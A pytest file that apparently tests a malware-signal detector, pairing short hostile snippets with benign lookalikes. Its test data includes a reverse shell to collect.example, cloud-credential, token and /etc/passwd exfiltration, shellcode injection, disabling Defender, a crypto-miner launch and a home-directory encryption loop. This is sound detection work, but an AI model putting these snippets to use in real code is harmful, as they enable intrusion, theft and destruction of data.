"""Signs of malice that are told of code by itself: each in some spellings, and the honest code beside it."""

from __future__ import annotations

from fnmatch import fnmatchcase

import pytest

from fimci import readers
from fimci.model import Capability

_HIDDEN = "obfuscation hidden name"
_DESTROYED = "filesystem-delete what it finds"
_SHELLCODE = "encoded-payload machine code -> *"


def told(path: str, text: str) -> set[str]:
    data = text.encode()
    found = (r for reader in readers.ALL if reader.wants(path, data) for r in reader.read(path, data))
    return {f"{one.name} {one.subject}" for one in found if isinstance(one, Capability)}


@pytest.mark.parametrize(
    ("path", "text", "wanted"),
    [
        ("a.js", "const m = 'child' + '_process'; require(m)['ex' + 'ec']('id');", _HIDDEN),
        ("a.js", "globalThis['ev' + 'al'](name);", _HIDDEN),
        ("a.py", "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", _HIDDEN),
        ("a.py", "import importlib\nimportlib.import_module('subpro' + 'cess').call('id')", _HIDDEN),
        ("a.js", "eval(\"require('child_process').exec('id')\");", "shell id"),
        ("a.js", "setTimeout(\"require('child_process').exec('id')\", 10);", "shell id"),
        ("a.js", "new Function('a', \"return require('child_process').exec('id')\")();", "shell id"),
        ("a.js", "require('vm').runInNewContext(\"require('child_process').exec('id')\");", "shell id"),
        (
            "a.py",
            (
                "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 9, 0x3000, 0x40)\n"
                "k.RtlMoveMemory(p, b, 9)\nk.CreateThread(0, 0, p, 0, 0, 0)"
            ),
            _SHELLCODE,
        ),
        (
            "a.py",
            (
                "from ctypes import WinDLL\nk = WinDLL('kernel32')\nk.WriteProcessMemory(h, p, b, 9, 0)\n"
                "k.CreateRemoteThread(h, 0, 0, p, 0, 0, 0)"
            ),
            _SHELLCODE,
        ),
        ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)", _SHELLCODE),
        ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, 7)", _SHELLCODE),
        (
            "a.js",
            (
                "const s = document.createElement('script');\n"
                "s.src = atob('aHR0cHM6Ly9sZWZ0LmV4YW1wbGUvYS5qcw==');"
            ),
            "download-and-run left.example -> script",
        ),
        (
            "a.js",
            "(d => { var s = d.createElement('script'); s.src = 'https://left.example/a.js'; })(document);",
            "network left.example",
        ),
        ("a.js", "require('fs').copyFileSync(own, require.resolve('left/bin'));", "module-tampering *"),
        ("a.js", "require('fs').renameSync(require.resolve('left/bin'), own);", "module-tampering *"),
        ("a.py", "from pytransform import pyarmor_runtime\npyarmor_runtime()", "obfuscation protector"),
        ("a.py", "__pyarmor__(__name__, __file__, b'PYARMOR')", "obfuscation protector"),
        (
            "a.py",
            (
                "import socket, pty, os\ns = socket.socket()\ns.connect(('collect.example', 4444))\n"
                "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/bash')"
            ),
            "download-and-run collect.example -> shell",
        ),
        (
            "a.py",
            "import socket, os\nsocket.gethostbyname(os.environ['NPM_TOKEN'] + '.collect.example')",
            "exfiltration secret -> *.collect.example",
        ),
        (
            "a.py",
            (
                "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam/')\n"
                "requests.post('https://collect.example/', data=r.text)"
            ),
            "exfiltration cloud credentials -> collect.example",
        ),
        (
            "a.js",
            (
                "fetch('http://169.254.169.254/latest/meta-data/').then(r => r.text())"
                ".then(t => fetch('https://collect.example/', { method: 'POST', body: t }));"
            ),
            "exfiltration cloud credentials -> collect.example",
        ),
        (
            "a.py",
            (
                "import requests\nrequests.get('https://api.telegram.org/bot1:A/sendMessage',"
                " params={'text': open('/etc/passwd').read()})"
            ),
            "exfiltration private file -> api.telegram.org",
        ),
        (
            "a.py",
            "import os\nos.system('powershell Set-MpPreference -DisableRealtimeMonitoring 1')",
            "process set-*",
        ),
        (
            "a.py",
            "import subprocess\nsubprocess.Popen('./xmrig -o pool.example:1', shell=True)",
            "process xmrig",
        ),
    ],
)
def test_a_sign_is_told(path: str, text: str, wanted: str) -> None:
    found = told(path, text)
    assert any(fnmatchcase(one, wanted) for one in found), found


@pytest.mark.parametrize(
    ("path", "text", "unwanted"),
    [
        ("a.js", "const cp = require('child_process'); cp['exec']('id');", _HIDDEN),
        ("a.py", "import os\ngetattr(os, 'system')('id')", _HIDDEN),
        ("a.py", 'exec("""exec code in globs, locs""")', _HIDDEN),
        ("a.py", "exec(\"import os; os.system('id')\")", _HIDDEN),
        ("a.py", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 4)", _SHELLCODE),
        ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ)", _SHELLCODE),
        ("a.py", "import mmap\nm = mmap.mmap(f.fileno(), 0, mmap.MAP_SHARED, 3)", _SHELLCODE),
        ("a.py", "import socket\nsocket.gethostbyname(name)", "exfiltration *"),
        (
            "a.py",
            (
                "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/placement/region')\n"
                "requests.post('https://left.example/', data=mine)"
            ),
            "exfiltration *",
        ),
        ("a.js", "setTimeout(() => run('id'), 10);", "shell *"),
        (
            "a.js",
            (
                "const s = require('http').createServer((a, b) => b.end());\n"
                "const cp = require('child_process');\n"
                "s.listen(0, () => cp.exec('open http://localhost:' + s.address().port));"
            ),
            "download-and-run *",
        ),
        (
            "a.py",
            "from pathlib import Path\nfor one in Path.home().glob('*.tmp'):\n    one.unlink()",
            _DESTROYED,
        ),
        ("a.py", "import yaml\nyaml.load(x, Loader=yaml.SafeLoader)", "dynamic-code *"),
        ("a.py", "import os\nos.environ['LD_PRELOAD'] = '/usr/lib/libjemalloc.so'", "module-tampering *"),
        ("a.py", "exec('import ' + 'os')", "encoded-payload *"),
        ("a.js", "setTimeout('tick(' + '10)', 1);", "encoded-payload *"),
        ("a.py", "import subprocess, zlib\nsubprocess.run(['left'], input=zlib.decompress(x))", "encoded-*"),
        ("a.py", "import os\nos.dup2(log.fileno(), 1)\nos.execv('/bin/sh', ['sh'])", "download-and-run *"),
        ("a.py", "NAMES = ('wireshark', 'fiddler')", "obfuscation *"),
        (
            "a.js",
            "require('child_process').spawnSync(require('path').join('./bin', `${name}-${version}`), []);",
            "obfuscation *",
        ),
        ("a.sh", "cd build && npm install && npx lint-staged", "process *"),
        ("a.sh", "docker run --privileged --rm left/binfmt --install all", "process *"),
        ("a.m4", "AC_DEFUN([A], [eval $ac_try])\nB=`echo $C | sed s/a/b/`", "encoded-payload *"),
        ("a.js", "require('fs').copyFileSync(require.resolve('left/bin'), own);", "module-tampering *"),
        ("a.js", "const s = document.createElement('script'); s.src = base + 'a.js';", "download-and-run *"),
    ],
)
def test_what_only_looks_like_it_is_not(path: str, text: str, unwanted: str) -> None:
    found = told(path, text)
    assert not any(fnmatchcase(one, unwanted) for one in found), found


@pytest.mark.parametrize(
    ("path", "text", "wanted"),
    [
        (
            "a.py",
            (
                "import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\n"
                "for r, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n"
                "        p = os.path.join(r, n)\n        d = open(p, 'rb').read()\n"
                "        open(p, 'wb').write(k.encrypt(d))"
            ),
            True,
        ),
        ("a.py", "import os\nfor n in os.listdir(d):\n    open(os.path.join(d, n), 'w').write('x')", True),
        (
            "a.js",
            (
                "const fs = require('fs'), path = require('path');\n"
                "for (const f of fs.readdirSync(d)) fs.writeFileSync(path.join(d, f), 'x');"
            ),
            True,
        ),
        (
            "a.js",
            (
                "const fs = require('fs'), path = require('path');\n"
                "for (const f of fs.readdirSync(d)) fs.writeFileSync(path.join(d, f, 'package.json'), '{}');"
            ),
            False,
        ),
        (
            "a.js",
            (
                "const fs = require('fs');\nfor (const f of fs.readdirSync(d))"
                " fs.writeFileSync(d + f, fs.readFileSync(d + f, 'utf8').replace('a', 'b'));"
            ),
            False,
        ),
        ("a.py", "import os\nfor n in os.listdir(d):\n    open(n, 'w').write(tidy(open(n).read()))", False),
    ],
)
def test_who_overwrites_what_it_finds_is_told_from_a_tool(path: str, text: str, *, wanted: bool) -> None:
    assert (_DESTROYED in told(path, text)) == wanted
